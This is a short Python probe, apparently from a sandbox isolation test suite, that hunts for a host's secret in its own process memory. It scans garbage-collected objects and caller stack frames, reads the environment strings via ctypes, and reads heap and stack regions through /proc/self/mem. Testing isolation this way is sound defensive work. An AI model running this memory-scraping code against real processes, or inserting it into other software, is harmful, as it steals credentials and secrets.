# wall: secrets
# what: Searches its own memory for the host's secret: objects, frames of its callers, what was on the stack at the start.
# short
import gc


def texts(value, depth=0):
    """The texts in a value and in what it holds."""
    if isinstance(value, str):
        yield value.encode("utf-8", "replace")
    elif isinstance(value, (bytes, bytearray)):
        yield bytes(value)
    elif depth < 3 and isinstance(value, dict):
        for k, v in dict.copy(value).items():
            yield from texts(k, depth + 1)
            yield from texts(v, depth + 1)
    elif depth < 3 and isinstance(value, (list, tuple)):
        for v in value:
            yield from texts(v, depth + 1)


def of_objects():
    for value in gc.get_objects():
        if isinstance(value, (dict, list, tuple)):
            for text in texts(value, 2):
                if secret(text):
                    return secret(text)


def of_frames():
    frame = sys._getframe()
    while frame:
        for text in texts(frame.f_locals):
            if secret(text):
                return secret(text)
        frame = frame.f_back


def of_stack():
    """The strings of the environment and the arguments lie one behind the other, at the stack's end."""
    import ctypes
    environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), "environ")
    address, page = environ[0], os.sysconf("SC_PAGE_SIZE")
    return secret(ctypes.string_at(address & -page, page))


def of_maps():
    with open("/proc/self/maps") as f:
        areas = [line.split()[0].split("-") for line in f if "[heap]" in line or "[stack]" in line]
    with open("/proc/self/mem", "rb", 0) as f:
        for start, end in areas:
            f.seek(int(start, 16))
            found = secret(f.read(int(end, 16) - int(start, 16)))
            if found:
                return found


attempt("objects", of_objects)
attempt("frames", of_frames)
attempt("stack", of_stack)
attempt("heap", of_maps)
